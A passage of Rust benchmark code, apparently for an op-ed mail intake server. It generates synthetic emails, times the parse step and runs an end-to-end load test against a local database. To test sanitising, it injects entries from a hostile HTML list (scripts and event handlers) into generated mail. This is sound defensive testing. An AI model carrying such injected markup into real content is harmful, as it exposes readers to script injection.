            .join("\r\n\r\n");
        let mut html = String::from(
            "<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=utf-8\">\
             <style>p { margin: 0 0 1em 0 }</style></head><body><div dir=\"ltr\">",
        );
        let _ = write!(html, "<h1>{}</h1>", xml_escape(&title));
        for paragraph in &paragraphs {
            html.push_str("<p>");
            html.push_str(&xml_escape(paragraph));
            if self.rng.percent(40) {
                html.push(' ');
                html.push_str(self.rng.pick(HOSTILE_HTML));
            }
            if self.rng.percent(30) {
                html.push(' ');
                html.push_str(self.rng.pick(BENIGN_HTML));
            }
            html.push_str("</p>\r\n");
        }
        // Whatever the draws, every HTML op-ed carries a script and an event handler.
        html.push_str(HOSTILE_HTML[0]);
        html.push_str(HOSTILE_HTML[1]);
        html.push_str("</div></body></html>\r\n");
        let message_id = self.message_id(index, &from.email);
        let boundary = format!("=_alt_{:016x}", self.rng.next_u64());
        let headers = self.envelope(index, &from, &subject, &message_id, "");
        let raw = format!(
            "{headers}Content-Type: multipart/alternative; boundary=\"{boundary}\"\r\n\r\n\
             --{boundary}\r\n\
             Content-Type: text/plain; charset=\"UTF-8\"\r\n\
             Content-Transfer-Encoding: 8bit\r\n\r\n\
             {text}\r\n\
             --{boundary}\r\n\
             Content-Type: text/html; charset=\"UTF-8\"\r\n\
             Content-Transfer-Encoding: quoted-printable\r\n\r\n\
             {}\r\n\
             --{boundary}--\r\n",
            quoted_printable(html.as_bytes()),
        );
        self.remember_original(index, message_id, author, title);
        Mail {
            kind: Kind::HtmlOped,
            raw: raw.into_bytes(),
            parse_verdict: ParseVerdict::Draft {
                from_document: false,
            },
        }
    }

    fn arabic_oped(&mut self, index: usize, windows_1256: bool) -> Mail {
        let author_index = self.rng.below(self.arabic_authors.len());
        let title = (self.rng.pick(ARABIC_TITLES)).to_string();
        // Arabic letters are one byte in windows-1256 and two in UTF-8 (sent
        // as base64): aim at the same size on the wire for both.
        let chars = if windows_1256 {
            self.article_bytes()
        } else {
            // Two bytes a letter, then base64's 4/3.
            self.article_bytes() * 2 / 5
        };
        let paragraphs = self.arabic_paragraphs(chars);
        let body = format!(
            "{title}\r\n\r\n{}\r\n",
            paragraphs
                .iter()
                .map(|p| wrap(p, 72))
                .collect::<Vec<_>>()
                .join("\r\n\r\n")
        );
        let subject_text = format!("Op-Ed: {title}");
        let (charset, subject, encoding, body_bytes) = if windows_1256 {
            let encode = |text: &str| {
                let (bytes, _, unmappable) = encoding_rs::WINDOWS_1256.encode(text);
                assert!(!unmappable, "the Arabic word lists fit windows-1256");
                bytes.into_owned()
            };
            let subject = encoded_words(&subject_text, "windows-1256", encode);
            ("windows-1256", subject, "8bit", encode(&body))
        } else {
            let subject = encoded_words(&subject_text, "UTF-8", |t| t.as_bytes().to_vec());
            let body = base64_lines(body.as_bytes()).into_bytes();
            ("utf-8", subject, "base64", body)
        };
        let from = self.arabic_authors[author_index].clone();
        let message_id = self.message_id(index, &from.email);
        let headers = self.envelope(index, &from, &subject, &message_id, "");
        let mut raw = format!(
            "{headers}Content-Type: text/plain; charset={charset}\r\nContent-Transfer-Encoding: {encoding}\r\n\r\n"
        )
        .into_bytes();
        raw.extend_from_slice(&body_bytes);
        raw.extend_from_slice(b"\r\n");
        Mail {
            kind: if windows_1256 {
                Kind::ArabicWindows1256
            } else {
                Kind::ArabicUtf8
            },
            raw,
            parse_verdict: ParseVerdict::Draft {
                from_document: false,
            },
        }
    }

    fn auto_reply(&mut self, index: usize) -> Mail {
        let author = self.rng.below(self.authors.len());
        let title = self.title();
        let (subject, header) = match self.rng.below(10) {
            0 => (
                format!("Out of Office: Op-Ed: {title}"),
                "X-Autoreply: yes\r\n",
            ),
            1 => (
                format!("Abwesenheitsnotiz: Op-Ed: {title}"),
                "Auto-Submitted: auto-generated\r\n",
            ),
            _ => (
                format!("Automatic reply: Op-Ed: {title}"),
                "Auto-Submitted: auto-replied\r\nX-Auto-Response-Suppress: All\r\n",
            ),
        };
        let from = self.authors[author].clone();
        let message_id = self.message_id(index, &from.email);
        let headers = self.envelope(index, &from, &subject, &message_id, header);
        let raw = format!(
            "{headers}Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n\
             I am out of the office until Monday {} December with limited access to email.\r\n\
             For urgent matters please contact the newsroom.\r\n",
            self.rng.between(1, 28)
        );
        Mail {
            kind: Kind::AutoReply,
            raw: raw.into_bytes(),
            parse_verdict: ParseVerdict::Automatic,
        }
    }

    fn unmatched(&mut self, index: usize) -> Mail {
        let author = self.rng.below(self.authors.len());
        let title = self.title();
        let subject = match self.rng.below(5) {
            0 => "Question about your submission guidelines".to_string(),
            1 => format!("Press release: {title}"),
            2 => format!("Invitation: panel discussion in {}", self.rng.pick(PLACES)),
            3 => "Letter to the editor".to_string(),
            _ => format!(
                "Correction request: article of {} November",
                self.rng.between(1, 30)
            ),
        };
        let bytes = self.rng.between(2_000, 12_000);
        let paragraphs = self.paragraphs(bytes);
        let body = paragraphs
            .iter()
            .map(|p| wrap(p, 72))
            .collect::<Vec<_>>()
            .join("\r\n\r\n");
        let from = self.authors[author].clone();
        let message_id = self.message_id(index, &from.email);
        let headers = self.envelope(index, &from, &subject, &message_id, "");
        let raw = format!(
            "{headers}Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n{body}\r\n"
        );
        Mail {
            kind: Kind::Unmatched,
            raw: raw.into_bytes(),
            parse_verdict: ParseVerdict::NoDraft,
        }
    }

    fn reply(&mut self, index: usize) -> Mail {
        let original = self.old_original(index);
        let (author, title, thread) = {
            let original = &self.originals[original];
            (
                original.author,
                original.title.clone(),
                original.message_id.clone(),
            )
        };
        let from = self.authors[author].clone();
        let subject = format!("Re: Op-Ed: {title}");
        let extra = format!("In-Reply-To: <{thread}>\r\nReferences: <{thread}>\r\n");
        let message_id = self.message_id(index, &from.email);
        let with_revision = self.rng.percent(50);
        let (content_type, body, from_document) = if with_revision {
            let bytes = self.article_bytes();
            let paragraphs = self.paragraphs(bytes);
            let document = self.docx(&title, &paragraphs, &from.display);
            let boundary = format!("=_mixed_{:016x}", self.rng.next_u64());
            let body = format!(
                "--{boundary}\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n\
                 Dear editor,\r\n\r\nHere is the revised version, with the figures you asked for.\r\n\r\n\
                 --{boundary}\r\n\
                 Content-Type: application/vnd.openxmlformats-officedocument.wordprocessingml.document\r\n\
                 Content-Disposition: attachment; filename=\"{}-v2.docx\"\r\n\
                 Content-Transfer-Encoding: base64\r\n\r\n{}\r\n--{boundary}--\r\n",
                slug(&title),
                base64_lines(&document),
            );
            (
                format!("multipart/mixed; boundary=\"{boundary}\""),
                body,
                true,
            )
        } else {
            let quoted_bytes = self.rng.between(1_000, 5_000);
            let quoted = self
                .paragraphs(quoted_bytes)
                .iter()
                .map(|p| {
                    wrap(p, 70)
                        .split("\r\n")
                        .map(|line| format!("> {line}"))
                        .collect::<Vec<_>>()
                        .join("\r\n")
                })
                .collect::<Vec<_>>()
                .join("\r\n>\r\n");
            let body = format!(
                "Thank you for the quick answer. I am happy with the edits and the new headline.\r\n\r\n\
                 On Tue, 24 Nov 2026, Op-Ed Desk wrote:\r\n{quoted}\r\n"
            );
            ("text/plain; charset=utf-8".to_string(), body, false)
        };
        let headers = self.envelope(index, &from, &subject, &message_id, &extra);
        let raw = format!("{headers}Content-Type: {content_type}\r\n\r\n{body}");
        Mail {
            kind: Kind::Reply,
            raw: raw.into_bytes(),
            parse_verdict: ParseVerdict::Draft { from_document },
        }
    }

    fn redelivery(&mut self, index: usize) -> Mail {
        let original = self.old_original(index);
        let source = &self.mails[self.originals[original].index];
        Mail {
            kind: Kind::Redelivery,
            raw: source.raw.clone(),
            parse_verdict: source.parse_verdict,
        }
    }
}

fn capitalise(word: &str) -> String {
    let mut chars = word.chars();
    match chars.next() {
        Some(first) => first.to_uppercase().chain(chars).collect(),
        None => String::new(),
    }
}

fn slug(title: &str) -> String {
    title
        .to_ascii_lowercase()
        .split(|c: char| !c.is_ascii_alphanumeric())
        .filter(|part| !part.is_empty())
        .collect::<Vec<_>>()
        .join("-")
}

fn xml_escape(text: &str) -> String {
    text.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('"', "&quot;")
}

/// Breaks text into CRLF lines of at most `width` characters, at spaces.
fn wrap(text: &str, width: usize) -> String {
    let mut lines = Vec::new();
    let mut line = String::new();
    let mut line_chars = 0;
    for word in text.split(' ') {
        let word_chars = word.chars().count();
        if line_chars > 0 && line_chars + 1 + word_chars > width {
            lines.push(std::mem::take(&mut line));
            line_chars = 0;
        }
        if line_chars > 0 {
            line.push(' ');
            line_chars += 1;
        }
        line.push_str(word);
        line_chars += word_chars;
    }
    lines.push(line);
    lines.join("\r\n")
}

/// Quoted-printable (RFC 2045) of CRLF text: lines at most 76 characters,
/// soft breaks where needed, non-ASCII and `=` escaped.
fn quoted_printable(text: &[u8]) -> String {
    let mut out = String::with_capacity(text.len() * 11 / 10);
    for (n, line) in text.split(|&b| b == b'\n').enumerate() {
        if n > 0 {
            out.push_str("\r\n");
        }
        let line = line.strip_suffix(b"\r").unwrap_or(line);
        let mut length = 0;
        for (i, &byte) in line.iter().enumerate() {
            let last = i + 1 == line.len();
            let literal = (byte == b' ' && !last) || (byte.is_ascii_graphic() && byte != b'=');
            let piece_len = if literal { 1 } else { 3 };
            if length + piece_len > 75 {
                out.push_str("=\r\n");
                length = 0;
            }
            if literal {
                out.push(byte as char);
            } else {
                let _ = write!(out, "={byte:02X}");
            }
            length += piece_len;
        }
    }
    out
}

fn base64_lines(bytes: &[u8]) -> String {
    let encoded = BASE64.encode(bytes);
    encoded
        .as_bytes()
        .chunks(76)
        .map(|line| std::str::from_utf8(line).expect("base64 is ASCII"))
        .collect::<Vec<_>>()
        .join("\r\n")
}

/// RFC 2047 B-encoded words of at most 75 characters, split between
/// characters (a word must decode on its own), folded onto new lines.
fn encoded_words(text: &str, charset: &str, encode: impl Fn(&str) -> Vec<u8>) -> String {
    // 45 bytes make 60 base64 characters; with `=?windows-1256?B?` and `?=` that is 79:
    // keep the payload at 39 bytes (52 characters) to stay under 75 for every charset here.
    const MAX_PAYLOAD: usize = 39;
    let mut words = Vec::new();
    let mut chunk = String::new();
    for c in text.chars() {
        let mut candidate = chunk.clone();
        candidate.push(c);
        if encode(&candidate).len() > MAX_PAYLOAD && !chunk.is_empty() {
            words.push(format!("=?{charset}?B?{}?=", BASE64.encode(encode(&chunk))));
            chunk.clear();
        }
        chunk.push(c);
    }
    if !chunk.is_empty() {
        words.push(format!("=?{charset}?B?{}?=", BASE64.encode(encode(&chunk))));
    }
    words.join("\r\n ")
}

fn print_mix(mails: &[Mail]) {
    let total_bytes: usize = mails.iter().map(|mail| mail.raw.len()).sum();
    let mut by_kind: BTreeMap<Kind, Vec<usize>> = BTreeMap::new();
    for mail in mails {
        by_kind.entry(mail.kind).or_default().push(mail.raw.len());
    }
    println!(
        "mix: {} mails, {:.1} MB, mean {:.1} KB",
        mails.len(),
        total_bytes as f64 / 1e6,
        total_bytes as f64 / mails.len() as f64 / 1e3
    );
    println!(
        "  {:<22} {:>6} {:>7} {:>9} {:>9} {:>9}  outcome",
        "kind", "mails", "share", "mean KB", "min KB", "max KB"
    );
    for (kind, sizes) in &by_kind {
        let sum: usize = sizes.iter().sum();
        println!(
            "  {:<22} {:>6} {:>6.1}% {:>9.1} {:>9.1} {:>9.1}  {}",
            kind.label(),
            sizes.len(),
            100.0 * sizes.len() as f64 / mails.len() as f64,
            sum as f64 / sizes.len() as f64 / 1e3,
            *sizes.iter().min().unwrap_or(&0) as f64 / 1e3,
            *sizes.iter().max().unwrap_or(&0) as f64 / 1e3,
            kind.expected_outcome(),
        );
    }
}

fn write_mails(dir: &Path, mails: &[Mail]) -> anyhow::Result<()> {
    std::fs::create_dir_all(dir).with_context(|| format!("creating {}", dir.display()))?;
    for (index, mail) in mails.iter().enumerate() {
        let name = format!("{index:06}-{}.eml", slug(mail.kind.label()));
        std::fs::write(dir.join(&name), &mail.raw).with_context(|| format!("writing {name}"))?;
    }
    println!("wrote {} mails to {}", mails.len(), dir.display());
    Ok(())
}

// ---------------------------------------------------------------------------
// Parse mode
// ---------------------------------------------------------------------------

/// The desk's settings, as environment variables: `oped serve` gets them as
/// its environment, and the parse step reads them through the same
/// `Config::from_lookup`, so both modes run one configuration. `--server-env`
/// comes last and wins.
struct Settings(Vec<(String, String)>);

impl Settings {
    fn new(extra: &[(String, String)]) -> Self {
        // Secrets for this run only: they need not be strong, just accepted by
        // the configuration check (long, varied).
        let nanos = std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .map_or(0, |since| since.subsec_nanos());
        let mut rng = Rng(u64::from(std::process::id()) << 32 | u64::from(nanos));
        let mut settings = vec![
            (
                "OPED_INBOUND_TOKEN".to_string(),
                random_secret(&mut rng, 40),
            ),
            ("OPED_JWT_SECRET".to_string(), random_secret(&mut rng, 48)),
            (
                "OPED_TRUSTED_AUTHSERV_ID".to_string(),
                AUTHSERV_ID.to_string(),
            ),
            ("OPED_FROM".to_string(), DESK_FROM.to_string()),
        ];
        settings.extend(extra.iter().cloned());
        Settings(settings)
    }

    fn get(&self, name: &str) -> Option<String> {
        self.0
            .iter()
            .rev()
            .find(|(setting, _)| setting == name)
            .map(|(_, value)| value.clone())
    }

    fn intake_config(&self) -> anyhow::Result<IntakeConfig> {
        Ok(Config::from_lookup(|name| self.get(name))?.intake)
    }
}

/// The server's CPU work before its transaction (src/intake/store.rs):
/// analyse, then build the draft for mail that can become a submission or a
/// revision. One difference: the server answers a redelivery from the
/// database before building a draft, this builds it (1% of the mix).
fn parse_step(raw: &[u8], config: &IntakeConfig) -> ParseVerdict {
    match intake::analyse(raw, config) {
        Analysis::Quarantine(_) => ParseVerdict::Quarantined,
        Analysis::Mail(analysis) if analysis.automatic.is_some() => ParseVerdict::Automatic,
        Analysis::Mail(analysis) if analysis.has_marker || analysis.may_be_reply() => {
            let draft = build_draft(
                &analysis.mail,
                &config.limits,
                config.trusted_authserv_id.as_deref(),
            );
            let from_document = draft.article_from_document;
            std::hint::black_box(draft);
            ParseVerdict::Draft { from_document }
        }
        Analysis::Mail(_) => ParseVerdict::NoDraft,
    }
}

/// Checks, once and untimed, that every mail takes the path its kind claims,
/// that hostile HTML is sanitised and that Arabic is decoded: a benchmark over
/// mail that is quarantined or misread would measure the wrong thing.
/// Returns how many mails the parse step gave each verdict.
fn verify_mix(
    mails: &[Mail],
    config: &IntakeConfig,
) -> anyhow::Result<BTreeMap<&'static str, usize>> {
    let mut problems = Vec::new();
    let mut verdicts = BTreeMap::new();
    for (index, mail) in mails.iter().enumerate() {
        let verdict = parse_step(&mail.raw, config);
        *verdicts.entry(verdict.label()).or_default() += 1;
        if verdict != mail.parse_verdict {
            problems.push(format!(
                "mail {index} ({}): parse step gave {verdict:?}, expected {:?}",
                mail.kind.label(),
                mail.parse_verdict
            ));
            continue;
        }
        let Analysis::Mail(analysis) = intake::analyse(&mail.raw, config) else {
            continue;
        };
        if !matches!(verdict, ParseVerdict::Draft { .. }) {
            continue;
        }
        let draft = build_draft(
            &analysis.mail,
            &config.limits,
            config.trusted_authserv_id.as_deref(),
        );
        match mail.kind {
            Kind::HtmlOped => {
                let html = draft.body_html.to_ascii_lowercase();
                for forbidden in FORBIDDEN_AFTER_SANITISING {
                    if html.contains(forbidden) {
                        problems.push(format!("mail {index}: {forbidden:?} survived sanitising"));
                    }
                }
            }
            Kind::ArabicWindows1256 | Kind::ArabicUtf8 => {
                let arabic =
                    |text: &str| text.chars().any(|c| ('\u{600}'..='\u{6ff}').contains(&c));
                if !arabic(&draft.body_text) || !arabic(&draft.title) {
                    problems.push(format!(
                        "mail {index} ({}): Arabic text not decoded (title {:?})",
                        mail.kind.label(),
                        draft.title
                    ));
                }
            }
            _ => {}
        }
        if draft.body_text.len() < 100 && mail.kind.is_oped() {
            problems.push(format!(
                "mail {index} ({}): only {} bytes of article text",
                mail.kind.label(),
                draft.body_text.len()
            ));
        }
    }
    if !problems.is_empty() {
        bail!(
            "{} generated mails are not read as intended, e.g.:\n  {}",
            problems.len(),
            problems
                .iter()
                .take(10)
                .cloned()
                .collect::<Vec<_>>()
                .join("\n  ")
        );
    }
    Ok(verdicts)
}

/// Parse-mode figures, reused by the end-to-end report to split server time.
struct ParseFigures {
    /// Median single-thread time of the parse step per mail.
    median_per_mail: Duration,
}

fn parse_benchmark(
    options: &Options,
    settings: &Settings,
    mails: &[Mail],
) -> anyhow::Result<ParseFigures> {
    let mut config = settings.intake_config()?;
    // Documents are read as the server reads them: by the extractor the
    // server would start, in a child process (this bench binary is none).
    let server = std::fs::canonicalize(&options.server)?;
    let companion = server.with_file_name("oped-extract");
    let extractor = if companion.is_file() {
        companion
    } else {
        server
    };
    config.limits.extraction.runner = oped::intake::documents::Runner::Child(Some(extractor));
    let total_bytes: usize = mails.iter().map(|mail| mail.raw.len()).sum();
    println!(
        "\n== parse step: analyse + build_draft, {} mails, {} timed passes",
        mails.len(),
        options.passes
    );
    println!("  load average before: {}", load_average());
    let verdicts = verify_mix(mails, &config)?;
    println!("  every mail takes the path its kind claims (checked untimed)");
    println!(
        "  parse-step outcomes: {}",
        verdicts
            .iter()
            .map(|(verdict, count)| format!("{verdict} {count}"))
            .collect::<Vec<_>>()
            .join(", ")
    );

    // Warm-up: lazy regexes, allocator arenas, page faults of the input.
    for mail in mails {
        std::hint::black_box(parse_step(&mail.raw, &config));
    }

    let single = timed_passes(options.passes, 1, || {
        for mail in mails {
            std::hint::black_box(parse_step(&mail.raw, &config));
        }
    });
    report_passes("1 thread", &single, mails.len(), total_bytes);

    let chunk = mails.len().div_ceil(options.threads);
    let parallel = timed_passes(options.passes, options.threads, || {
        std::thread::scope(|scope| {
            for part in mails.chunks(chunk) {
                let config = &config;
                scope.spawn(move || {
                    for mail in part {
                        std::hint::black_box(parse_step(&mail.raw, config));
                    }
                });
            }
        });
    });
    let threads_label = match options.threads {
        1 => "1 thread".to_string(),
        n => format!("{n} threads"),
    };
    report_passes(&threads_label, &parallel, mails.len(), total_bytes);
    let scaling = median(&single.times).as_secs_f64() / median(&parallel.times).as_secs_f64();
    println!(
        "  scaling: {} threads are {scaling:.2}x one thread ({:.0}% of linear)",
        options.threads,
        100.0 * scaling / options.threads as f64
    );

    // Where the parse time goes, by kind: one more single-thread pass, each mail timed.
    let mut by_kind: BTreeMap<Kind, (usize, Duration)> = BTreeMap::new();
    for mail in mails {
        let started = Instant::now();
        std::hint::black_box(parse_step(&mail.raw, &config));
        let entry = by_kind.entry(mail.kind).or_default();
        entry.0 += 1;
        entry.1 += started.elapsed();
    }
    let all: Duration = by_kind.values().map(|(_, time)| *time).sum();
    println!("  time by kind (1 thread):");
    for (kind, (count, time)) in &by_kind {
        println!(
            "    {:<22} {:>8.1} µs/mail {:>6.1}% of the time",
            kind.label(),
            time.as_secs_f64() * 1e6 / *count as f64,
            100.0 * time.as_secs_f64() / all.as_secs_f64()
        );
    }
    Ok(ParseFigures {
        median_per_mail: median(&single.times) / mails.len() as u32,
    })
}

/// Wall times of repeated passes, and how much CPU the process got meanwhile.
struct Passes {
    times: Vec<Duration>,
    threads: usize,
    /// CPU time of the process over wall time, per thread: near 100% when
    /// each thread had a core to itself, lower when other work took turns.
    cpu_per_thread: f64,
}

fn timed_passes(passes: usize, threads: usize, mut pass: impl FnMut()) -> Passes {
    let ticks_before = process_tree_ticks(std::process::id());
    let started = Instant::now();
    let times = (0..passes)
        .map(|_| {
            let pass_started = Instant::now();
            pass();
            pass_started.elapsed()
        })
        .collect();
    let cpu =
        (process_tree_ticks(std::process::id()) - ticks_before) as f64 / clock_ticks_per_second();
    Passes {
        times,
        threads,
        cpu_per_thread: cpu / started.elapsed().as_secs_f64() / threads as f64,
    }
}

fn report_passes(label: &str, passes: &Passes, mails: usize, bytes: usize) {
    let best = passes.times.iter().min().copied().unwrap_or_default();
    let median = median(&passes.times);
    let rate = |time: Duration| mails as f64 / time.as_secs_f64();
    let mb_rate = |time: Duration| bytes as f64 / 1e6 / time.as_secs_f64();
    let per_core = |time: Duration| rate(time) / passes.threads as f64;
    println!(
        "  {label:<10} best {:>6.0} mails/s {:>5.1} MB/s | median {:>6.0} mails/s {:>5.1} MB/s | \
         per core: best {:>5.0}, median {:>5.0} mails/s",
        rate(best),
        mb_rate(best),
        rate(median),
        mb_rate(median),
        per_core(best),
        per_core(median),
    );
    // When other work shares the cores, wall-clock rates understate the
    // code; mails per CPU-second of this process do not (cache effects aside).
    println!(
        "  {:<10} cpu {:.0}% per thread: {:.0} mails per CPU-second",
        "",
        100.0 * passes.cpu_per_thread,
        per_core(median) / passes.cpu_per_thread.max(0.01),
    );
}

fn median(times: &[Duration]) -> Duration {
    let mut sorted = times.to_vec();
    sorted.sort();
    sorted[sorted.len() / 2]
}

// ---------------------------------------------------------------------------
// End-to-end mode
// ---------------------------------------------------------------------------

fn end_to_end(
    options: &Options,
    settings: &Settings,
    mails: &[Mail],
    parse: Option<ParseFigures>,
) -> anyhow::Result<()> {
    require_loopback(&options.postgres)?;
    let server_binary = options
        .server
        .canonicalize()
        .with_context(|| format!("no server binary at {}", options.server.display()))?;
    let token = settings
        .get("OPED_INBOUND_TOKEN")
        .context("no OPED_INBOUND_TOKEN")?;
    let pid = std::process::id();
    println!(
        "\n== end to end: POST /api/v1/inbound/messages, {} mails, {} clients",
        mails.len(),
        options.concurrency
    );
    println!("  load average before: {}", load_average());

    // Declared before the server so it is dropped after it: the server stops
    // first, then its database goes.
    let database = BenchDatabase::create(&options.postgres, &format!("oped_bench_{pid}"))?;
    let port = free_port()?;
    let log_path = std::env::temp_dir().join(format!("oped_bench_{pid}.log"));
    // A clean environment: a developer's OPED_* variables must not change
    // what is measured; --server-env adds to it on purpose.
    let mut environment: Vec<(String, String)> = vec![
        ("DATABASE_URL".to_string(), database.url.clone()),
        ("OPED_BIND".to_string(), format!("127.0.0.1:{port}")),
        ("RUST_LOG".to_string(), "warn".to_string()),
    ];
    environment.extend(settings.0.iter().cloned());
    if !options.server_env.is_empty() {
        println!(
            "  server environment added: {}",
            options
                .server_env
                .iter()
                .map(|(name, value)| format!("{name}={value}"))
                .collect::<Vec<_>>()
                .join(" ")
        );
    }
    let mut server = Server::start(&server_binary, &environment, &log_path)?;
    let base = format!("http://127.0.0.1:{port}");
    server.wait_ready(&base, Duration::from_secs(60))?;
    println!(
        "  server pid {} on 127.0.0.1:{port}, database {}, log {}",
        server.pid(),
        database.name,
        log_path.display()
    );

    let sampler = WaitSampler::start(&database.url)?;
    let cpu_before = CpuSample::take(server.pid(), &database.name);
    let started = Instant::now();
    let exchanges = send_all(
        &format!("{base}/api/v1/inbound/messages"),
        &token,
        mails,
        options.concurrency,
        started + Duration::from_secs(options.time_limit_secs),
    );
    let wall = started.elapsed();
    let cpu_after = CpuSample::take(server.pid(), &database.name);
    // The wait profile explains the figures; it is not worth failing the run over.
    let waits = sampler
        .finish()
        .inspect_err(|err| eprintln!("  the wait sampler failed: {err:#}"))
        .ok();

    let stored = database.stored()?;
    let report = EndToEndReport::new(mails, &exchanges, wall, &stored);
    report.print(options.concurrency);
    print_cpu(&cpu_before, &cpu_after, wall, mails.len(), parse.as_ref());
    if let Some(waits) = waits {
        waits.print();
    }

    let failures = report.failures();
    if !failures.is_empty() {
        server.print_log_tail(20);
        bail!("end-to-end run failed:\n  {}", failures.join("\n  "));
    }
    drop(server);
    drop(database);
    Ok(())
}

/// Everything stays on this machine: a PostgreSQL URL naming another host is refused.
fn require_loopback(postgres: &str) -> anyhow::Result<()> {
    let parsed = url::Url::parse(postgres).context("--postgres is not a URL")?;
    match parsed.host_str() {
        Some("127.0.0.1" | "localhost" | "[::1]") => Ok(()),
        other => bail!("--postgres must be on loopback (127.0.0.1), not {other:?}"),
    }
}

fn free_port() -> anyhow::Result<u16> {
    // The port is free when we close the listener; `oped serve` binds it a
    // moment later. Another process taking it in between would make the
    // server fail to start, loudly.
    let listener = TcpListener::bind("127.0.0.1:0").context("binding 127.0.0.1:0")?;
    Ok(listener.local_addr()?.port())
}

/// A database of the bench's own, dropped on every way out.
struct BenchDatabase {
    admin_url: String,
    name: String,
    url: String,
}

impl BenchDatabase {
    /// Drops a leftover of the same name (a killed earlier run with the same
    /// pid); `oped serve` creates and migrates the database itself.
    fn create(postgres: &str, name: &str) -> anyhow::Result<Self> {
        // The database name goes in the path; query parameters such as
        // `?sslmode=disable` are kept.
        let with_path = |path: &str| -> anyhow::Result<String> {
            let mut url = url::Url::parse(postgres).context("--postgres is not a URL")?;
            url.set_path(path);
            Ok(url.into())
        };
        let database = BenchDatabase {
            admin_url: with_path("/postgres")?,
            name: name.to_string(),
            url: with_path(&format!("/{name}"))?,
        };
        database.drop_now()?;
        Ok(database)
    }

    fn drop_now(&self) -> anyhow::Result<()> {
        let mut admin = PgConnection::establish(&self.admin_url)
            .with_context(|| format!("connecting to {}", self.admin_url))?;
        diesel::sql_query(format!(
            "DROP DATABASE IF EXISTS \"{}\" WITH (FORCE)",
            self.name
        ))
        .execute(&mut admin)
        .with_context(|| format!("dropping database {}", self.name))?;
        Ok(())
    }

    fn stored(&self) -> anyhow::Result<Stored> {
        let mut conn = PgConnection::establish(&self.url)
            .with_context(|| format!("connecting to {}", self.name))?;
        let outcomes: Vec<OutcomeCount> = diesel::sql_query(
            "SELECT outcome, count(*) AS count FROM inbound_messages GROUP BY outcome ORDER BY outcome",
        )
        .load(&mut conn)?;
        let tables: TableCounts = diesel::sql_query(
            "SELECT (SELECT count(*) FROM inbound_messages) AS inbound_messages, \
                    (SELECT count(*) FROM submissions) AS submissions, \
                    (SELECT count(*) FROM submission_revisions) AS revisions, \
                    (SELECT count(*) FROM attachments) AS attachments, \
                    (SELECT count(*) FROM correspondence) AS correspondence, \
                    pg_database_size(current_database()) AS database_bytes",
        )
        .get_result(&mut conn)?;
        Ok(Stored {
            outcomes: outcomes
                .into_iter()
                .map(|row| (row.outcome, row.count))
                .collect(),
            tables,
        })
    }
}

impl Drop for BenchDatabase {
    fn drop(&mut self) {
        match self.drop_now() {
            Ok(()) => println!("  dropped database {}", self.name),
            Err(err) => eprintln!("  could not drop database {}: {err:#}", self.name),
        }
    }
}

#[derive(QueryableByName)]
struct OutcomeCount {
    #[diesel(sql_type = Text)]
    outcome: String,
    #[diesel(sql_type = BigInt)]
    count: i64,
}

#[derive(QueryableByName)]
struct TableCounts {
    #[diesel(sql_type = BigInt)]
    inbound_messages: i64,
    #[diesel(sql_type = BigInt)]
    submissions: i64,
    #[diesel(sql_type = BigInt)]
    revisions: i64,
    #[diesel(sql_type = BigInt)]
    attachments: i64,
    #[diesel(sql_type = BigInt)]
    correspondence: i64,
    #[diesel(sql_type = BigInt)]
    database_bytes: i64,
}

struct Stored {
    outcomes: BTreeMap<String, i64>,
    tables: TableCounts,
}

/// `oped serve` as a child process, stopped with SIGTERM on every way out.
struct Server {
    child: Child,
    log_path: PathBuf,
}

impl Server {
    fn start(
        binary: &Path,
        environment: &[(String, String)],
        log_path: &Path,
    ) -> anyhow::Result<Self> {
        let log =
            File::create(log_path).with_context(|| format!("creating {}", log_path.display()))?;
        // Run from the temp dir so that no `.env` file is picked up either.
        let child = Command::new(binary)
            .arg("serve")
            .env_clear()
            .env("PATH", std::env::var_os("PATH").unwrap_or_default())
            .envs(environment.iter().map(|(name, value)| (name, value)))
            .current_dir(std::env::temp_dir())
            .stdin(Stdio::null())
            .stdout(log.try_clone()?)
            .stderr(log)
            .spawn()
            .with_context(|| format!("starting {}", binary.display()))?;
        Ok(Server {
            child,
            log_path: log_path.to_path_buf(),
        })
    }

    fn pid(&self) -> u32 {
        self.child.id()
    }

    fn wait_ready(&mut self, base: &str, limit: Duration) -> anyhow::Result<()> {
        let client = http_client(Duration::from_secs(2))?;
        let deadline = Instant::now() + limit;
        loop {
            if let Ok(response) = client.get(format!("{base}/readyz")).send()
                && response.status().is_success()
            {
                return Ok(());
            }
            if let Ok(Some(status)) = self.child.try_wait() {
                self.print_log_tail(20);
                bail!("oped serve exited before it was ready ({status})");
            }
            if Instant::now() > deadline {
                self.print_log_tail(20);
                bail!("oped serve was not ready after {} s", limit.as_secs());
            }
            std::thread::sleep(Duration::from_millis(100));
        }
    }

    fn print_log_tail(&self, lines: usize) {
        let log = std::fs::read_to_string(&self.log_path).unwrap_or_default();
        let all: Vec<&str> = log.lines().collect();
        eprintln!("  last lines of {}:", self.log_path.display());
        for line in &all[all.len().saturating_sub(lines)..] {
            eprintln!("    {line}");
        }
    }
}

impl Drop for Server {
    fn drop(&mut self) {
        let pid = nix::unistd::Pid::from_raw(self.child.id() as i32);
        let _ = nix::sys::signal::kill(pid, nix::sys::signal::Signal::SIGTERM);
        let deadline = Instant::now() + Duration::from_secs(10);
        loop {
            match self.child.try_wait() {
                Ok(Some(status)) => {
                    println!("  server stopped ({status})");
                    return;
                }
                Ok(None) if Instant::now() < deadline => {
                    std::thread::sleep(Duration::from_millis(50))
                }
                _ => {
                    eprintln!("  server did not stop on SIGTERM within 10 s: killing it");
                    let _ = self.child.kill();
                    let _ = self.child.wait();
                    return;
                }
            }
        }
    }
}

/// Letters and digits from the generator: enough for a configuration check.
fn random_secret(rng: &mut Rng, length: usize) -> String {
    const ALPHABET: &[u8] = b"ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz23456789";
    (0..length)
        .map(|_| char::from(rng.pick(ALPHABET)))
        .collect()
}

/// A blocking client that never uses a proxy: every byte goes to 127.0.0.1.
fn http_client(timeout: Duration) -> anyhow::Result<reqwest::blocking::Client> {
